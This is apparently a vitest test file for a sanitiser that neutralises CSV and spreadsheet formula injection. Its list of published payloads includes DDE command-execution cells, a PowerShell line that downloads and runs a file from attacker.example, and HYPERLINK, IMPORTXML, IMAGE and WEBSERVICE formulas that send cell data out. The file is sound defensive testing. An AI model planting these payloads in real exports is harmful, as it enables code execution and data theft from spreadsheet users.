import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { neutraliseCell, restoreCell } from './neutralise-cell.ts';

/** Attacks as published by OWASP ("CSV Injection") and in public lists of payloads, with their usual disguises. */
const payloads = [
  '=1+1',
  '=1+1";=1+2',
  "=1+2';=1+2",
  "=SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '=HYPERLINK("http://attacker.example?leak="&A1,"Click")',
  '=HYPERLINK(CONCATENATE("http://attacker.example/",A1:A9),"x")',
  '=IMPORTXML(CONCAT("http://attacker.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
  '=IMPORTFEED(CONCAT("http://attacker.example?v=",CONCATENATE(A2:E2)))',
  '=IMPORTHTML(CONCAT("http://attacker.example/",A2),"table",1)',
  '=IMPORTRANGE("https://docs.example/d/1","Sheet1!A2:B2")',
  '=IMAGE("https://attacker.example/?a="&B2)',
  '=WEBSERVICE("http://attacker.example/"&A1)',
  '=DDE("cmd";"/C calc";"__DdeLink")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "='file:///etc/passwd'#$passwd.A1",
  '=AND(1,1)',
  '=',
  '==1+1',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+HYPERLINK("http://attacker.example","x")',
  "+thespanishinquisition(cmd|' /C calc'!A",
  '+44 20 7946 0000',
  '+',
  '-1+1',
  "-2+3+cmd|' /C calc'!D2",
  '-HYPERLINK("http://attacker.example")',
  '-5',
  '-',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '@import',
  '@',
  '\t=1+1',
  '\tcmd',
  '\r=1+1',
  '\rcmd',
  '\n=1+1',
  '\n\n@SUM(1)',
  '\r\n-1',
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u2060@SUM(1)',
  '\u00ad-1+1',
  '\u2028=1+1',
  '"=1+1',
  '"" =1+1',
  "'=1+1",
  "''=1+1",
  '“=1+1”',
  '«=1+1»',
  '`=1+1`',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' \u200b "＝cmd',
];

describe('cells that a spreadsheet would run', () => {
  test('there are at least 60 of them', () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(60);
  });

  test.each(payloads)('%j begins with an apostrophe', (payload) => {
    const cell = neutraliseCell(payload);

    expect(cell.startsWith("'")).toBe(true);
    expect(cell).not.toMatch(/[\t\r\n\u2028]/);
  });

  test.each([
    ['x;=1+1', "x;'=1+1"],
    ['x; @SUM(1);-1', "x; '@SUM(1);'-1"],
    ['x;"=1+1"', 'x;"\'=1+1"'],
    ['x\n=1+1', 'x =1+1'],
    ['x\t=1+1', 'x =1+1'],
  ])('%j hides a formula behind a separator', (payload, expected) => {
    expect(neutraliseCell(payload)).toBe(expected);
  });
});

test.each([
  '',
  'Zahra Wexbury',
  "O'Dunmore",
  "'t Hart",
  'VP Sales & Marketing',
  'C++ Developer',
  'a=b',
  'jean-luc@acme.example',
  '2026-01-15',
  'R&D - Europe',
  'Sales; Marketing',
  '(202) 555-0100',
  '1-10',
])('%j is left as it is', (text) => {
  expect(neutraliseCell(text)).toBe(text);
});

test('restoring gives back every text without line breaks and tabs, exactly', () => {
  const character = fc.constantFrom('=', '+', '-', '@', "'", '"', ';', ' ', 'a', '1', '＝', '\u200b', 'é');
  fc.assert(
    fc.property(fc.string({ unit: character, maxLength: 12 }), (text) => {
      expect(restoreCell(neutraliseCell(text))).toBe(text);
      expect(neutraliseCell(text).replace(/^[ "\u200b]+/, '')).not.toMatch(/^[=+\-@＝]/);
    }),
    { seed: 5, numRuns: 5000 },
  );
});
